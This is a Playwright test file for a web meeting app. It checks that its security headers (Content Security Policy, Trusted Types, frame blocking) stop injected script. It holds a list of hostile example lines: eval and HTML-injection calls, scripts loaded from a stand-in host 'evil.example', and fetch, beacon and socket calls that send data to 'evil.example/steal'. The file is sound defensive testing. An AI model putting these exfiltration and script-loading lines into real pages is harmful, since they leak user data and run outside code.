import type { Page } from '@playwright/test';
import { createMeeting, expect, joinMeeting, test } from './journey';

/** What script that has no business here could try, and what the policies of SERVER (headers) say to it. */

const PAGES = [
  '/',
  '/m',
  '/m#new',
  '/how-it-works',
  '/what-our-server-sees',
  '/connection-help',
  '/settings',
  '/glossary',
  '/privacy',
  '/safety',
  '/faq',
  '/accessibility',
  '/no-such-page',
];

type Violation = { directive: string; blocked: string };

/** In the page, before anything else runs: keeps every violation. */
function keepViolations(): void {
  const kept: Violation[] = [];
  Object.assign(window, { keptViolations: kept });
  document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
    kept.push({ directive: effectiveDirective, blocked: blockedURI });
  });
}

const violationsOn = (page: Page): Promise<Violation[]> =>
  page.evaluate(() => (window as unknown as { keptViolations: Violation[] }).keptViolations);

test.describe('left alone', () => {
  test.use({ expectedProblems: [[/404 \(Not Found\)|Not found: \/no-such-page/], { scope: 'test' }] });

  test('no page breaks a policy', async ({ guest }) => {
    await guest.page.addInitScript(keepViolations);
    for (const path of PAGES) {
      await guest.page.goto(path);
      await expect(guest.page.getByRole('heading').or(guest.page.getByRole('alert')).first()).toBeVisible();
      expect(await violationsOn(guest.page), path).toEqual([]);
    }
  });
});

test('no page of another site shows ours in a frame', async ({ guest, server }) => {
  await guest.page.goto('about:blank');
  await guest.page.setContent(`<iframe src="${server.url}/"></iframe>`);
  const frame = guest.page.frames().find((one) => one !== guest.page.mainFrame());
  await expect.poll(() => frame?.url()).toContain('chrome-error:');
  guest.problems.splice(0);
});

/** Each tries one thing, and is stopped by an error. */
const ATTEMPTS: Record<string, string> = {
  'markup from text': `document.body.innerHTML = '<b>x</b>'`,
  'markup beside an element': `document.body.insertAdjacentHTML('beforeend', '<b>x</b>')`,
  'a document from text': `new DOMParser().parseFromString('<b>x</b>', 'text/html')`,
  'writing the document': `document.write('<b>x</b>')`,
  'a frame from text': `document.createElement('iframe').srcdoc = '<b>x</b>'`,
  eval: `eval('window.pwned = 1')`,
  'a function from text': `new Function('window.pwned = 1')()`,
  'a timer from text': `setTimeout('window.pwned = 1')`,
  'a worker from anywhere': `new Worker('/service-worker.js')`,
  'a service worker from anywhere': `await navigator.serviceWorker.register('/_app/version.json')`,
  'a script from anywhere': `document.createElement('script').src = 'https://evil.example/x.js'`,
  'a script from text': `document.createElement('script').text = 'window.pwned = 1'`,
  'a policy of its own': `trustedTypes.createPolicy('evil', {})`,
  'a default policy': `trustedTypes.createPolicy('default', { createHTML: (text) => text })`,
  "the worker's policy once more": `trustedTypes.createPolicy('parley-worker', { createScriptURL: (text) => text })`,
};

/** Each asks for something from elsewhere; what counts is the directive that stops it. */
const REQUESTS: Record<string, { directive: string; script: string }> = {
  'a request': {
    directive: 'connect-src',
    script: `fetch('https://evil.example/steal', { method: 'POST', body: 'x' }).catch(() => null)`,
  },
  'a request to another port': {
    directive: 'connect-src',
    script: `fetch('http://127.0.0.1:9/evil.example').catch(() => null)`,
  },
  'a beacon': { directive: 'connect-src', script: `navigator.sendBeacon('https://evil.example/steal', 'x')` },
  'an event stream': { directive: 'connect-src', script: `new EventSource('https://evil.example/steal')` },
  'a socket': { directive: 'connect-src', script: `new WebSocket('wss://evil.example/steal')` },
  'a picture': { directive: 'img-src', script: `new Image().src = 'https://evil.example/pixel.gif'` },
  'a sound': {
    directive: 'media-src',
    script: `new Audio('https://evil.example/a.mp3').play().catch(() => null)`,
  },
  'a font': {
    directive: 'font-src',
    script: `new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => null)`,
  },
  'a style in an attribute': {
    directive: 'style-src-attr',
    script: `document.body.setAttribute('style', 'background: url(https://evil.example/x)')`,
  },
  'a style sheet': {
    directive: 'style-src-elem',
    script: `document.head.append(Object.assign(document.createElement('link'),
      { rel: 'stylesheet', href: 'https://evil.example/x.css' }))`,
  },
  'a frame': {
    directive: 'frame-src',
    script: `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }))`,
  },
  'a module': {
    directive: 'script-src-elem',
    script: `import('https://evil.example/x.js').catch(() => null)`,
  },
  'a form': {
    directive: 'form-action',
    script: `const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
      document.body.append(form);
      form.submit();`,
  },
  'another base': {
    directive: 'base-uri',
    script: `document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))`,
  },
};

/** Puts the hostile script into the page from the start; what a debugger evaluates is exempt from the policies. */
function hostileScript(): string {
  const scripts = [
    ...Object.entries(ATTEMPTS),
    ...Object.entries(REQUESTS).map(([what, { script }]) => [what, script]),
  ];
  const entries = scripts.map(([what, script]) => `${JSON.stringify(what)}: async () => { ${script} }`);
  return `window.hostile = { ${entries.join(',\n')} };`;
}

/** Runs one of them in a task of the page's own; answers the error it ended with. */
const run = (page: Page, what: string): Promise<string | null> =>
  page.evaluate(async (name) => {
    const { hostile } = window as unknown as { hostile: Record<string, () => Promise<void>> };
    const task = new Promise<void>((resolve, reject) => {
      setTimeout(() => void hostile[name]?.().then(resolve, reject));
    });
    return task.then(
      () => null,
      (fault: unknown) => String(fault),
    );
  }, what);

test.describe('with hostile script in it', () => {
  test.use({
    expectedProblems: [
      [/Content Security Policy|TrustedHTML|TrustedScript|trusted-types|Trusted Type|TrustedTypePolicy|ERR_/],
      { scope: 'test' },
    ],
  });

  test('the page of a running meeting runs no text and reaches no third party', async ({ host, guest }) => {
    test.setTimeout(90_000);
    const { page } = guest;
    await page.addInitScript(keepViolations);
    await page.addInitScript(hostileScript());
    const outside: string[] = [];
    page.on('response', (response) => {
      if (response.url().includes('evil.example')) outside.push(response.url());
    });
    const link = await createMeeting(host);
    await joinMeeting(guest, link, 'Mallory');
    await expect(page.getByRole('textbox', { name: 'Message' })).toBeVisible();

    for (const what of Object.keys(ATTEMPTS)) {
      await test.step(what, async () => {
        expect(await run(page, what), what).toMatch(/TypeError|EvalError|SecurityError/);
      });
    }
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);

    for (const [what, { directive }] of Object.entries(REQUESTS)) {
      await test.step(what, async () => {
        const before = (await violationsOn(page)).length;
        await run(page, what);
        const since = async () => (await violationsOn(page)).slice(before).map((one) => one.directive);
        await expect.poll(since, what).toContain(directive);
      });
    }
    expect(outside, 'answers from a third party').toEqual([]);
  });
});
